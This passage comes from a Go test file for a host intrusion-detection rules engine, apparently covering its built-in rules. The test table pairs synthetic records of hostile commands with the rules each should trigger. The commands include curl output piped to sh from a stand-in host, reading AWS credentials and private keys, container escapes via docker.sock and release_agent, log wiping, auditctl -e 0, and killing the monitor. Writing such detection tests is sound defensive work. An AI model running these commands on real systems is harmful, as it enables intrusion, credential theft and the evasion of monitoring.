		{"setuid-root-refused", "nobody refused setresuid(-1, 0, -1)",
			failed(callRec(proc(100, nobody, "/tmp/x"), unix.SYS_SETRESUID, 0, 0xffffffff, 0, 0xffffffff), "EPERM"),
			[]string{"setuid-root-refused"}},
		{"setuid-root-refused", "nobody setting its own uid",
			callRec(proc(100, nobody, "/tmp/x"), unix.SYS_SETUID, 0, nobody),
			nil},
		{"setuid-root-refused", "root dropping to alice",
			callRec(proc(100, 0, "/usr/sbin/sshd"), unix.SYS_SETRESUID, 0, alice, alice, alice),
			nil},

		// packet-capture
		{"packet-capture", "python opening an AF_PACKET socket",
			callRec(proc(100, 0, "/usr/bin/python3.11"), unix.SYS_SOCKET, 0, unix.AF_PACKET, unix.SOCK_RAW, 0x0300),
			[]string{"packet-capture"}},
		{"packet-capture", "ping's raw ICMP socket is allowlisted",
			callRec(proc(100, alice, "/usr/bin/ping"), unix.SYS_SOCKET, 0, unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP),
			nil},

		// account-created, root-account-created
		{"account-created", "useradd adding a user",
			added(fileRec(proc(100, 0, "/usr/sbin/useradd"), "rename", "/etc/passwd+", watch.ClassAccounts), record.Account{Name: "mallory", UID: 1001}),
			[]string{"account-created"}},
		{"account-created", "usermod changing a comment (nothing added)",
			fileRec(proc(100, 0, "/usr/sbin/usermod"), "rename", "/etc/passwd+", watch.ClassAccounts),
			nil},
		{"root-account-created", "a uid-0 line appended by a shell",
			added(openRec(proc(100, 0, "/usr/bin/bash"), "/etc/passwd", watch.ClassAccounts, "write", oWronly|oAppend), record.Account{Name: "toor", UID: 0}),
			[]string{"root-account-created", "sensitive-config-modified"}},
		{"root-account-created", "useradd adding an ordinary user",
			added(fileRec(proc(100, 0, "/usr/sbin/useradd"), "rename", "/etc/passwd+", watch.ClassAccounts), record.Account{Name: "alice", UID: 1000}),
			[]string{"account-created"}},

		// system-binary-dropped, dropped-binary-run
		{"system-binary-dropped", "cp of a program into /usr/local/bin",
			openRec(proc(100, 0, "/usr/bin/cp", "cp", "x", "/usr/local/bin/x"), "/usr/local/bin/x", watch.ClassSystemBin, "write", oWronly|oCreat|oTrunc),
			[]string{"system-binary-dropped"}},
		{"system-binary-dropped", "a docker build step copying a program into its image's /usr/local/bin",
			building(inContainer(openRec(proc(100, 0, "/bin/busybox", "cp", "x", "/usr/local/bin/x"), "/usr/local/bin/x", watch.ClassSystemBin, "write", oWronly|oCreat|oTrunc))),
			nil},
		{"system-binary-dropped", "a running container's process copying a program into /usr/local/bin",
			inContainer(openRec(proc(100, 0, "/bin/busybox", "cp", "x", "/usr/local/bin/x"), "/usr/local/bin/x", watch.ClassSystemBin, "write", oWronly|oCreat|oTrunc)),
			[]string{"system-binary-dropped"}},
		{"system-binary-dropped", "dpkg unpacking a package's program",
			openRec(proc(100, 0, "/usr/bin/dpkg"), "/usr/bin/x.dpkg-new", watch.ClassSystemBin, "write", oWronly|oCreat),
			nil},
		{"system-binary-dropped", "a maintainer script's cp (dpkg among its ancestors)",
			openRec(withAncestry(proc(100, 0, "/usr/bin/cp"), "/usr/bin/dash", "/usr/bin/dpkg"), "/usr/sbin/x", watch.ClassSystemBin, "write", oWronly|oCreat),
			nil},
		{"system-binary-dropped", "root's python caching a module's bytecode",
			openRec(proc(100, 0, "/usr/bin/python3.11"), "/usr/lib/python3.11/json/__pycache__/decoder.cpython-311.pyc", watch.ClassSystemBin, "write", oWronly|oCreat),
			nil},
		{"dropped-binary-run", "a program that cp dropped runs",
			execRec(proc(100, 0, "/usr/local/bin/x", "x"), func(x *record.Exec) { x.DroppedBy = "/usr/bin/cp" }),
			[]string{"dropped-binary-run"}},
		{"dropped-binary-run", "a program the package manager installed runs",
			execRec(proc(100, 0, "/usr/bin/x", "x")),
			nil},

		// pipe-to-shell: either end's exec can come second
		{"pipe-to-shell", "sh reading its program from curl (curl exec'd first)",
			execRec(proc(100, alice, "/usr/bin/dash", "sh"), fromPipe("/usr/bin/curl", "curl", "-s", "http://example.invalid/x.sh")),
			[]string{"pipe-to-shell"}},
		{"pipe-to-shell", "curl writing to sh (sh exec'd first)",
			execRec(proc(100, alice, "/usr/bin/curl", "curl", "-s", "http://example.invalid/x.sh"), toPipe("/usr/bin/bash", "", "bash", "-s", "--", "x")),
			[]string{"pipe-to-shell"}},
		{"pipe-to-shell", "bash reading its program from base64 -d",
			execRec(proc(100, alice, "/usr/bin/bash", "bash"), fromPipe("/usr/bin/base64", "base64", "-d")),
			[]string{"pipe-to-shell"}},
		{"pipe-to-shell", "python3 -m json.tool reading curl's output (data, not a program)",
			execRec(proc(100, alice, "/usr/bin/python3.11", "python3", "-m", "json.tool"), fromPipe("/usr/bin/curl", "curl", "-s", "http://example.invalid/api")),
			nil},
		{"pipe-to-shell", "grep reading curl's output",
			execRec(proc(100, alice, "/usr/bin/curl", "curl", "-s", "http://example.invalid/"), toPipe("/usr/bin/grep", "", "grep", "title")),
			nil},
		{"pipe-to-shell", "sh reading its program from echo",
			execRec(proc(100, alice, "/usr/bin/dash", "sh"), fromPipe("/usr/bin/echo", "echo", "ls")),
			nil},
		{"pipe-to-shell", "a script run by bash reading curl's output",
			execRec(runsScript(proc(100, alice, "/usr/bin/bash", "bash", "./install.sh"), "/tmp/install.sh"), fromPipe("/usr/bin/curl", "curl", "-s", "http://example.invalid/")),
			nil},

		// port-scan
		{"port-scan", "python's 20th port of one host in 10 s",
			tried(connectRec(proc(100, alice, "/usr/bin/python3.11"), localhost, 40020), 20, 1),
			[]string{"port-scan"}},
		{"port-scan", "a client's 30th connection to one port (a pool)",
			tried(connectRec(proc(100, alice, "/usr/bin/python3.11"), localhost, 5432), 1, 1),
			nil},
		{"port-scan", "a client's 60th host on port 22",
			tried(connectRec(proc(100, alice, "/usr/bin/python3.11"), netip.MustParseAddr("192.0.2.60"), 22), 1, 60),
			[]string{"suspicious-outbound", "port-scan"}},
		{"port-scan", "a service scraping 60 hosts (prometheus, started by init)",
			tried(connectRec(child(proc(100, alice, "/usr/bin/prometheus"), 1, "/usr/lib/systemd/systemd"), netip.MustParseAddr("192.0.2.60"), 9100), 1, 60),
			nil},

		// process-injection
		{"process-injection", "ptrace PTRACE_TRACEME",
			callRec(proc(100, alice, "/usr/bin/python3"), unix.SYS_PTRACE, 0, unix.PTRACE_TRACEME, 0),
			nil},
		{"process-injection", "ptrace PTRACE_ATTACH on another process",
			callRec(proc(100, alice, "/usr/bin/python3"), unix.SYS_PTRACE, 200, unix.PTRACE_ATTACH, 200),
			[]string{"process-injection"}},
		{"process-injection", "ptrace PTRACE_ATTACH on itself",
			callRec(proc(100, alice, "/usr/bin/python3"), unix.SYS_PTRACE, 100, unix.PTRACE_ATTACH, 100),
			nil},
		{"process-injection", "gdb attaching is allowlisted",
			callRec(proc(100, alice, "/usr/bin/gdb"), unix.SYS_PTRACE, 200, unix.PTRACE_ATTACH, 200),
			nil},
		{"process-injection", "gdb writing the memory of a process it attached to (gdb -p)",
			callRec(proc(100, alice, "/usr/bin/gdb"), unix.SYS_PTRACE, 200, unix.PTRACE_POKEDATA, 200),
			[]string{"process-injection"}},
		{"process-injection", "gdb writing breakpoints into the program it started",
			ofDescendant(callRec(proc(100, alice, "/usr/bin/gdb"), unix.SYS_PTRACE, 200, unix.PTRACE_POKEDATA, 200)),
			nil},
		{"process-injection", "python attaching to its own child",
			ofDescendant(callRec(proc(100, alice, "/usr/bin/python3"), unix.SYS_PTRACE, 200, unix.PTRACE_ATTACH, 200)),
			nil},
		{"process-injection", "process_vm_writev into another process",
			sysRec(proc(100, alice, "/usr/bin/python3"), "process_vm_writev", 200, arg("pid", int64(200))),
			[]string{"process-injection"}},
		{"process-injection", "gdb -p writing memory through /proc/PID/mem (pwrite64)",
			sysRec(proc(100, alice, "/usr/bin/gdb"), "pwrite64", 200, arg("file", "/proc/200/task/200/mem"), arg("count", int64(8))),
			[]string{"process-injection"}},
		{"process-injection", "gdb writing a breakpoint into its own program through /proc/PID/mem",
			ofDescendant(sysRec(proc(100, alice, "/usr/bin/gdb"), "pwrite64", 200, arg("file", "/proc/200/task/200/mem"), arg("count", int64(1)))),
			nil},
		{"process-injection", "process_vm_readv of another process",
			sysRec(proc(100, alice, "/usr/bin/python3"), "process_vm_readv", 200, arg("pid", int64(200))),
			nil},

		// log-tampering
		{"log-tampering", "apt-get removing its own eipp.log.xz",
			fileRec(proc(100, 0, "/usr/bin/apt-get"), "unlink", "/var/log/apt/eipp.log.xz", watch.ClassLogs),
			nil},
		{"log-tampering", "rm removing apt's history",
			fileRec(proc(100, 0, "/usr/bin/rm"), "unlink", "/var/log/apt/history.log", watch.ClassLogs),
			[]string{"log-tampering"}},
		{"log-tampering", "/var/log/syslog opened for append",
			openRec(proc(100, 104, "/usr/bin/logger"), "/var/log/syslog", watch.ClassLogs, "write", oWronly|oAppend),
			nil},
		{"log-tampering", "/var/log/syslog opened with O_TRUNC",
			openRec(proc(100, 0, "/usr/bin/bash"), "/var/log/syslog", watch.ClassLogs, "write", oWronly|oTrunc),
			[]string{"log-tampering"}},
		{"log-tampering", "/var/log/syslog unlinked",
			fileRec(proc(100, 0, "/usr/bin/rm", "rm", "/var/log/syslog"), "unlink", "/var/log/syslog", watch.ClassLogs),
			[]string{"log-tampering"}},
		{"log-tampering", "logrotate truncating is allowlisted",
			openRec(proc(100, 0, "/usr/sbin/logrotate"), "/var/log/syslog", watch.ClassLogs, "write", oWronly|oTrunc),
			nil},
		{"log-tampering", "a shell history truncated",
			inHome(fileRec(proc(100, alice, "/usr/bin/truncate"), "truncate", "/home/alice/.bash_history", watch.ClassHistory), alice),
			[]string{"log-tampering"}},
		{"log-tampering", "an interactive bash saving its history on exit (mode 0600)",
			withMode(openRec(proc(100, 0, "/usr/bin/bash"), "/root/.bash_history", watch.ClassHistory, "write", oWronly|oTrunc|oCreat), 0o600),
			nil},
		{"log-tampering", "cat /dev/null > ~/.bash_history: bash's redirect (mode 0666)",
			withMode(openRec(proc(100, 0, "/usr/bin/bash"), "/root/.bash_history", watch.ClassHistory, "write", oWronly|oTrunc|oCreat), 0o666),
			[]string{"log-tampering"}},
		{"log-tampering", "the kernel log cleared",
			callRec(proc(100, 0, "/usr/bin/dmesg", "dmesg", "-C"), unix.SYS_SYSLOG, 0, unix.SYSLOG_ACTION_CLEAR),
			[]string{"log-tampering"}},
		{"log-tampering", "the kernel log read",
			callRec(proc(100, 0, "/usr/bin/dmesg", "dmesg"), unix.SYS_SYSLOG, 0, unix.SYSLOG_ACTION_READ_ALL),
			nil},

		// suspicious-outbound
		{"suspicious-outbound", "curl connecting to 443",
			connectRec(proc(100, alice, "/usr/bin/curl"), remote, 443),
			nil},
		{"suspicious-outbound", "curl connecting to 4444",
			connectRec(proc(100, alice, "/usr/bin/curl"), remote, 4444),
			[]string{"suspicious-outbound"}},
		{"suspicious-outbound", "python3 connecting out to 8081",
			connectRec(proc(100, alice, "/usr/bin/python3"), remote, 8081),
			[]string{"suspicious-outbound"}},
		{"suspicious-outbound", "python3's web request (443): pip, an API call",
			connectRec(proc(100, alice, "/usr/bin/python3"), remote, 443),
			nil},
		{"suspicious-outbound", "bash to a loopback listener: nothing leaves the host",
			connectRec(proc(100, alice, "/usr/bin/bash"), localhost, 4444),
			nil},
		{"suspicious-outbound", "python3 to this host's own address",
			func() record.Record {
				r := connectRec(proc(100, alice, "/usr/bin/python3"), remote, 8081)
				r.Network.DstScope = "local"
				return r
			}(),
			nil},
		{"suspicious-outbound", "python3's DNS query to the configured resolver",
			func() record.Record {
				r := connectRec(proc(100, alice, "/usr/bin/python3"), remote, 53)
				r.Event, r.Network.Protocol, r.Network.Resolver = "send", "udp", true
				return r
			}(),
			nil},
		{"suspicious-outbound", "python3's DNS query to another server",
			func() record.Record {
				r := connectRec(proc(100, alice, "/usr/bin/python3"), remote, 53)
				r.Event, r.Network.Protocol = "send", "udp"
				return r
			}(),
			[]string{"suspicious-outbound"}},
		{"suspicious-outbound", "python3 accepting a connection",
			func() record.Record {
				r := connectRec(proc(100, alice, "/usr/bin/python3"), remote, 8000)
				r.Event, r.Network.Direction = "accept", "inbound"
				return r
			}(),
			nil},

		// unexpected-listener
		{"unexpected-listener", "a listener started by init",
			listenRec(child(proc(100, 0, "/usr/bin/node"), 1, "/usr/lib/systemd/systemd"), 8080),
			nil},
		{"unexpected-listener", "nginx listening",
			listenRec(child(proc(100, 0, "/usr/sbin/nginx"), 500, "/usr/sbin/nginx"), 80),
			nil},
		{"unexpected-listener", "a dropped binary listening",
			listenRec(child(proc(100, alice, "/tmp/x"), 500, "/usr/bin/bash"), 8080),
			[]string{"unexpected-listener"}},
		{"unexpected-listener", "a dropped binary listening on loopback only",
			func() record.Record {
				r := listenRec(child(proc(100, alice, "/tmp/x"), 500, "/usr/bin/bash"), 8080)
				r.Network.SrcIP = localhost
				return r
			}(),
			nil},
		{"unexpected-listener", "a service listening on loopback on a reverse-shell port",
			func() record.Record {
				r := listenRec(child(proc(100, 0, "/usr/sbin/nginx"), 1, "/usr/lib/systemd/systemd"), 4444)
				r.Network.SrcIP = localhost
				return r
			}(),
			[]string{"unexpected-listener"}},
		{"unexpected-listener", "a failed listen",
			failed(listenRec(child(proc(100, alice, "/tmp/x"), 500, "/usr/bin/bash"), 8080), "EADDRINUSE"),
			nil},
		{"unexpected-listener", "a container's main process (pid 1 there) serving on every address",
			execd(inContainer(listenRec(proc(100, 0, "/usr/sbin/nginx"), 8080)), 1),
			nil},
		{"unexpected-listener", "a program a container's shell started listening (a bind shell)",
			inContainer(listenRec(proc(100, 0, "/tmp/x"), 8080)),
			[]string{"unexpected-listener"}},
		{"unexpected-listener", "a service listening on a reverse-shell port",
			listenRec(child(proc(100, 0, "/usr/sbin/nginx"), 1, "/usr/lib/systemd/systemd"), 4444),
			[]string{"unexpected-listener"}},

		// container-escape
		{"container-escape", "a connect to the docker socket from a container",
			connectUnixRec(inMntNS(proc(100, alice, "/usr/bin/curl"), 4026532301), "/var/run/docker.sock"),
			[]string{"container-escape"}},
		{"container-escape", "the host's docker CLI talking to dockerd",
			connectUnixRec(proc(100, 0, "/usr/bin/docker"), "/var/run/docker.sock"),
			nil},
		{"container-escape", "a connect to another unix socket",
			connectUnixRec(proc(100, alice, "/usr/bin/curl"), "/run/other.sock"),
			nil},
		{"container-escape", "a failed connect to the docker socket is still an attempt",
			failed(connectUnixRec(inMntNS(proc(100, alice, "/usr/bin/curl"), 4026532301), "/run/docker.sock"), "EACCES"),
			[]string{"container-escape"}},
		// release_agent is matched by shape in the kernel; no class is assumed
		{"container-escape", "a write to a cgroup release_agent",
			openRec(proc(100, 0, "/usr/bin/bash"), "/sys/fs/cgroup/x/release_agent", "", "write", oWronly|oTrunc),
			[]string{"container-escape"}},
		{"container-escape", "a read of a cgroup release_agent",
			openRec(proc(100, 0, "/usr/bin/cat"), "/sys/fs/cgroup/x/release_agent", "", "read", 0),
			nil},
		{"container-escape", "a write to core_pattern",
			openRec(proc(100, 0, "/usr/bin/bash"), "/proc/sys/kernel/core_pattern", watch.ClassKernel, "write", oWronly|oTrunc),
			[]string{"container-escape", "sensitive-config-modified"}},
		{"container-escape", "a process in a container entering the host's mount namespace",
			setnsRec(inMntNS(proc(100, 0, "/usr/bin/nsenter"), 4026532301), true),
			[]string{"container-escape"}},
		{"container-escape", "a container's process entering the host's mount namespace (after it, its mount namespace is the host's)",
			inContainer(setnsRec(proc(100, 0, "/bin/busybox", "nsenter", "-t", "4242", "-m"), true)),
			[]string{"container-escape"}},
		{"container-escape", "a container's process entering its own container's namespace",
			inContainer(setnsRec(inMntNS(proc(100, 0, "/bin/busybox", "nsenter", "-t", "1", "-m"), 4026532301), false)),
			nil},
		{"container-escape", "a container mounting the host's disk",
			inContainer(sysRec(proc(100, 0, "/bin/busybox", "mount", "/dev/vda1", "/mnt"), "mount", 0,
				arg("source", "/dev/vda1"), arg("target", "/mnt"), arg("fstype", "ext4"))),
			[]string{"container-escape"}},
		{"container-escape", "a container mounting a tmpfs",
			inContainer(sysRec(proc(100, 0, "/bin/busybox", "mount", "-t", "tmpfs", "x", "/mnt"), "mount", 0,
				arg("source", "x"), arg("target", "/mnt"), arg("fstype", "tmpfs"))),
			nil},
		{"container-escape", "the host mounting its disk",
			sysRec(proc(100, 0, "/usr/bin/mount", "mount", "/dev/vda1", "/mnt"), "mount", 0,
				arg("source", "/dev/vda1"), arg("target", "/mnt"), arg("fstype", "ext4")),
			nil},
		{"container-escape", "a container in the host's pid namespace reading the host's shadow through /proc/PID/root",
			requested(inContainer(openRec(proc(100, 0, "/bin/busybox", "cat", "/proc/4242/root/etc/shadow"), "/etc/shadow", "credentials", "read", 0)),
				"/proc/4242/root/etc/shadow"),
			[]string{"credential-read", "container-escape"}},
		{"container-escape", "a container with its own pid namespace reading its own pid 1's root",
			requested(inContainer(openRec(execd(inContainer(execRec(proc(100, 0, "/bin/busybox", "cat"))), 3).Process, "/etc/shadow", "credentials", "read", 0)),
				"/proc/1/root/etc/shadow"),
			[]string{"credential-read"}},
		{"container-escape", "a host admin's nsenter into a container's namespace",
			setnsRec(proc(100, 0, "/usr/bin/nsenter"), false),
			nil},
		{"container-escape", "a host process entering the host's namespace (back from ip netns exec)",
			setnsRec(proc(100, 0, "/usr/bin/nsenter"), true),
			nil},
		{"container-escape", "a process in a container entering another container's namespace",
			setnsRec(inMntNS(proc(100, 0, "/usr/bin/nsenter"), 4026532301), false),
			nil},
		{"container-escape", "a failed setns",
			failed(sysRec(proc(100, alice, "/usr/bin/nsenter"), "setns", 0), "EPERM"),
			nil},

		// credential-hunting
		{"credential-hunting", "cat ~/.aws/credentials",
			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/home/alice/.aws/credentials")),
			[]string{"credential-hunting"}},
		{"credential-hunting", "ssh-keygen making a key",
			execRec(proc(100, alice, "/usr/bin/ssh-keygen", "ssh-keygen", "-t", "ed25519", "-f", "/home/alice/.ssh/id_ed25519")),
			nil},
		{"credential-hunting", "a public key named",
			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/home/alice/.ssh/id_ed25519.pub")),
			nil},
		{"credential-hunting", "a private key read by cat",
			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/home/bob/.ssh/id_ed25519")),
			[]string{"credential-hunting"}},
		{"credential-hunting", "cat /etc/hostname",
			execRec(proc(100, alice, "/usr/bin/cat", "cat", "/etc/hostname")),
			nil},
		{"credential-hunting", "find looking for private keys",
			execRec(proc(100, alice, "/usr/bin/find", "find", "/", "-name", "id_rsa")),
			[]string{"credential-hunting"}},
		{"credential-hunting", "a private key named on a command line that is not an exec",
			callRec(proc(100, alice, "/usr/bin/cat", "cat", "/home/alice/.ssh/id_rsa"), unix.SYS_PTRACE, 0, unix.PTRACE_TRACEME),
			nil},

		// an image being unpacked (dockerd's docker-untar, in a mount
		// namespace whose root is the layer) is not a system changing
		{"sensitive-config-modified", "dockerd unpacking an image's /etc/group",
			openRec(inMntNS(proc(100, 0, "/usr/sbin/dockerd"), 4026532178), "/etc/group", watch.ClassAccounts, "write", oWronly|oCreat|oTrunc),
			nil},
		{"sensitive-config-modified", "a docker build step adding an account to its image",
			building(inContainer(openRec(proc(100, 0, "/bin/busybox", "sh"), "/etc/passwd", watch.ClassAccounts, "write", oWronly|oAppend))),
			nil},
		{"sensitive-config-modified", "dockerd writing the host's /etc/group",
			openRec(proc(100, 0, "/usr/sbin/dockerd"), "/etc/group", watch.ClassAccounts, "write", oWronly|oCreat|oTrunc),
			[]string{"sensitive-config-modified"}},
		{"persistence-write", "a container's own process writing its cron",
			openRec(inMntNS(proc(100, 0, "/usr/bin/bash"), 4026532178), "/etc/cron.d/job", watch.ClassPersistence, "write", oWronly|oCreat|oTrunc),
			[]string{"persistence-write"}},
		{"setuid-bit-set", "dockerd unpacking an image's set-uid binary",
			func() record.Record {
				r := chmodRec(inMntNS(proc(100, 0, "/usr/sbin/dockerd"), 4026532178), "/usr/bin/passwd", 0o4755)
				return r
			}(),
			nil},

		// sensitive-config-modified
		{"sensitive-config-modified", "chage renaming its new /etc/shadow into place",
			fileRec(proc(100, 0, "/usr/bin/chage"), "rename", "/etc/shadow", watch.ClassCredentials),
			nil},
		{"sensitive-config-modified", "a script renaming a new /etc/shadow into place",
			fileRec(proc(100, 0, "/usr/bin/python3"), "rename", "/etc/shadow", watch.ClassCredentials),
			[]string{"sensitive-config-modified"}},
		{"sensitive-config-modified", "vim writing /etc/passwd",
			openRec(proc(100, 0, "/usr/bin/vim"), "/etc/passwd", watch.ClassAccounts, "write", oWronly|oTrunc),
			[]string{"sensitive-config-modified"}},
		{"sensitive-config-modified", "useradd writing /etc/passwd is allowlisted",
			openRec(proc(100, 0, "/usr/sbin/useradd"), "/etc/passwd", watch.ClassAccounts, "write", oWronly|oTrunc),
			nil},
		{"sensitive-config-modified", "a PAM file read",
			openRec(proc(100, 0, "/usr/bin/cat"), "/etc/pam.d/sshd", watch.ClassAuthConfig, "read", 0),
			nil},
		{"sensitive-config-modified", "a loader path added",
			openRec(proc(100, 0, "/usr/bin/tee"), "/etc/ld.so.conf.d/x.conf", watch.ClassPreload, "write", oWronly|oCreat),
			[]string{"sensitive-config-modified"}},

		// process-memory-access
		{"process-memory-access", "/proc/123/mem opened by pid 456",
			openRec(proc(456, alice, "/usr/bin/python3"), "/proc/123/mem", watch.ClassProcMem, "read", 0),
			[]string{"process-memory-access"}},
		{"process-memory-access", "/proc/123/mem opened by pid 123",
			openRec(proc(123, alice, "/usr/bin/python3"), "/proc/123/mem", watch.ClassProcMem, "read", 0),
			nil},
		{"process-memory-access", "/proc/123/task/124/mem opened by pid 123",
			openRec(proc(123, alice, "/usr/bin/python3"), "/proc/123/task/124/mem", watch.ClassProcMem, "read-write", 2),
			nil},

		// kernel-tampering
		{"kernel-tampering", "iopl",
			sysRec(proc(100, 0, "/usr/local/bin/x"), "iopl", 0, arg("level", int64(3))),
			[]string{"kernel-tampering"}},
		{"kernel-tampering", "userfaultfd by euid 1000",
			sysRec(proc(100, alice, "/usr/local/bin/x"), "userfaultfd", 0),
			[]string{"kernel-tampering"}},
		{"kernel-tampering", "userfaultfd by euid 0",
			sysRec(proc(100, 0, "/usr/local/bin/x"), "userfaultfd", 0),
			nil},
		{"kernel-tampering", "chronyd setting the clock is allowlisted",
			sysRec(proc(100, 0, "/usr/sbin/chronyd"), "clock_settime", 0),
			nil},

		// logging-disabled
		{"logging-disabled", "SIGKILL to rsyslogd from a shell",
			atDaemon(sysRec(proc(100, 0, "/usr/bin/bash"), "kill", 700, arg("pid", int64(700)), arg("signal", "SIGKILL"))),
			[]string{"logging-disabled"}},
		{"logging-disabled", "SIGHUP to rsyslogd (a reload, as logrotate does)",
			atDaemon(sysRec(proc(100, 0, "/usr/bin/kill"), "kill", 700, arg("pid", int64(700)), arg("signal", "SIGHUP"))),
			nil},
		{"logging-disabled", "SIGTERM to auditd from init (a planned stop)",
			atDaemon(sysRec(child(proc(1, 0, "/usr/lib/systemd/systemd"), 0, ""), "kill", 700, arg("pid", int64(700)), arg("signal", "SIGTERM"))),
			nil},
		{"logging-disabled", "auditctl -e 0",
			execRec(proc(100, 0, "/usr/sbin/auditctl", "auditctl", "-e", "0")),
			[]string{"logging-disabled"}},
		{"logging-disabled", "auditctl -D",
			execRec(proc(100, 0, "/usr/sbin/auditctl", "auditctl", "-D")),
			[]string{"logging-disabled"}},
		{"logging-disabled", "a program of its own sending AUDIT_SET enabled=0",
			auditRec(proc(100, 0, "/usr/bin/python3"), "AUDIT_SET", 0, -1),
			[]string{"logging-disabled"}},
		{"logging-disabled", "a program of its own sending AUDIT_DEL_RULE",
			auditRec(proc(100, 0, "/usr/bin/python3"), "AUDIT_DEL_RULE", -1, -1),
			[]string{"logging-disabled"}},
		{"logging-disabled", "auditd registering itself: AUDIT_SET enabled=1 pid=N",
			auditRec(proc(100, 0, "/usr/sbin/auditd"), "AUDIT_SET", 1, 100),
			nil},
		{"logging-disabled", "auditctl -R deleting rules before loading the file (judged by its command line)",
			auditRec(proc(100, 0, "/usr/sbin/auditctl", "auditctl", "-R", "/etc/audit/audit.rules"), "AUDIT_DEL_RULE", -1, -1),
			nil},
		{"logging-disabled", "auditctl -l (listing the rules)",
			execRec(proc(100, 0, "/usr/sbin/auditctl", "auditctl", "-l")),
			nil},
		{"logging-disabled", "auditctl -e 1",
			execRec(proc(100, 0, "/usr/sbin/auditctl", "auditctl", "-e", "1")),
			nil},

		// monitor-tampering (the engine's own pid stands for the monitor)
		{"monitor-tampering", "kill aimed at the monitor",
			sysRec(proc(100, 0, "/usr/bin/kill", "kill", "-9", strconv.Itoa(self)), "kill", 0, arg("pid", int64(self)), arg("sig", "SIGKILL")),
			[]string{"monitor-tampering"}},
		{"monitor-tampering", "kill -0: a liveness probe, nothing delivered",
			sysRec(proc(100, 0, "/usr/bin/kill", "kill", "-0", strconv.Itoa(self)), "kill", 0, arg("pid", int64(self)), arg("signal", "0")),
			[]string{"monitor-signalled"}},
		{"monitor-tampering", "SIGTERM from a user's shell",
			sysRec(proc(100, 0, "/usr/bin/bash"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGTERM")),
			[]string{"monitor-tampering"}},
		{"monitor-tampering", "SIGTERM from init (a planned stop)",
			sysRec(child(proc(1, 0, "/usr/lib/systemd/systemd"), 0, ""), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGTERM")),
			[]string{"monitor-signalled"}},
		{"monitor-tampering", "SIGHUP from logrotate's pkill",
			sysRec(withAncestry(proc(100, 0, "/usr/bin/pkill"), "/usr/bin/dash", "/usr/sbin/logrotate"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGHUP")),
			[]string{"monitor-signalled"}},
		{"monitor-tampering", "SIGHUP from pkill in a user's shell",
			sysRec(proc(100, 0, "/usr/bin/pkill"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGHUP")),
			[]string{"monitor-tampering"}},
		{"monitor-signalled", "SIGTERM from the service manager's kill (ExecStop)",
			sysRec(child(proc(100, 0, "/usr/bin/kill"), 1, "/usr/lib/systemd/systemd"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGTERM")),
			[]string{"monitor-signalled"}},
		{"monitor-signalled", "SIGKILL from the service manager's child",
			sysRec(child(proc(100, 0, "/usr/bin/kill"), 1, "/usr/lib/systemd/systemd"), "kill", 0, arg("pid", int64(self)), arg("signal", "SIGKILL")),
			[]string{"monitor-tampering"}},
		{"monitor-tampering", "ptrace attach to the monitor",
			callRec(proc(100, 0, "/usr/bin/python3"), unix.SYS_PTRACE, uint32(self), unix.PTRACE_ATTACH, uint64(self)),
			[]string{"process-injection", "monitor-tampering"}},
		{"monitor-tampering", "process_vm_readv of another process",
			sysRec(proc(100, 0, "/usr/bin/python3"), "process_vm_readv", uint32(self)+1, arg("pid", int64(self)+1)),
			nil},
		{"monitor-tampering", "BPF links detached",
			callRec(proc(100, 0, "/usr/local/bin/x"), unix.SYS_BPF, 0, unix.BPF_LINK_DETACH),
			[]string{"monitor-tampering"}},
		{"monitor-tampering", "bpf listing programs",
			callRec(proc(100, 0, "/usr/local/bin/x"), unix.SYS_BPF, 0, unix.BPF_PROG_GET_NEXT_ID),
			nil},

		// watched-path-modified
		{"watched-path-modified", "a custom watched path written",
			openRec(proc(100, alice, "/usr/bin/vim"), "/srv/app/config.yml", watch.ClassCustom, "write", oWronly|oTrunc),
			[]string{"watched-path-modified"}},
		{"watched-path-modified", "a custom watched path read",
			openRec(proc(100, alice, "/usr/bin/cat"), "/srv/app/config.yml", watch.ClassCustom, "read", 0),
			nil},
		{"watched-path-modified", "a custom watched path deleted",
			fileRec(proc(100, alice, "/usr/bin/rm"), "unlink", "/srv/app/config.yml", watch.ClassCustom),
			[]string{"watched-path-modified"}},
	}
}

func builtin(t *testing.T, name string) rules.Def {
	t.Helper()
	for _, d := range rules.Builtin {
		if d.Name == name {
			return d
		}
	}
	t.Fatalf("no built-in rule %q", name)
	return rules.Def{}
}

func ruleNames(r *record.Record) []string {
	var out []string
	for _, m := range r.Rules {
		out = append(out, m.Name)
	}
	return out
}

func TestEachRuleFiresAndItsNearestBenignCaseDoesNot(t *testing.T) {
	e := rules.NewEngine(policy.Default(rules.Names()))
	for _, tt := range ruleCases() {
		t.Run(tt.rule+"/"+tt.name, func(t *testing.T) {
			r := tt.rec
			e.Evaluate(&r)
			if got := ruleNames(&r); !slices.Equal(got, tt.want) {
				t.Fatalf("rules = %q, want %q", got, tt.want)
			}
			wantSev := record.Info
			for _, name := range tt.want {
				wantSev = max(wantSev, builtin(t, name).Severity)
			}
			if r.Severity != wantSev {
				t.Errorf("severity = %v, want %v", r.Severity, wantSev)
			}
			for _, m := range r.Rules {
				d := builtin(t, m.Name)
				if m.Severity != d.Severity || m.Description != d.Description || !slices.Equal(m.Mitre, d.Mitre) {
					t.Errorf("rule %s = %+v, want the built-in severity %v, description and MITRE %q",
						m.Name, m, d.Severity, d.Mitre)
				}
			}
		})
	}
}

func TestEveryRuleHasAFiringAndABenignCase(t *testing.T) {
	fires, spares := map[string]bool{}, map[string]bool{}
	for _, tt := range ruleCases() {
		if slices.Contains(tt.want, tt.rule) {
			fires[tt.rule] = true
		} else {
			spares[tt.rule] = true
		}
	}
	for _, name := range rules.Names() {
		if !fires[name] {
			t.Errorf("rule %s: no case where it fires", name)
		}
		if !spares[name] {
			t.Errorf("rule %s: no benign case where it stays quiet", name)
		}
	}
}

var mitreRE = regexp.MustCompile(`^T\d{4}(\.\d{3})?$`)

func TestBuiltinRulesAreNamedDescribedAndMapped(t *testing.T) {
	seen := map[string]bool{}
	for _, d := range rules.Builtin {
		if seen[d.Name] {
			t.Errorf("rule %s: defined twice", d.Name)
		}
		seen[d.Name] = true
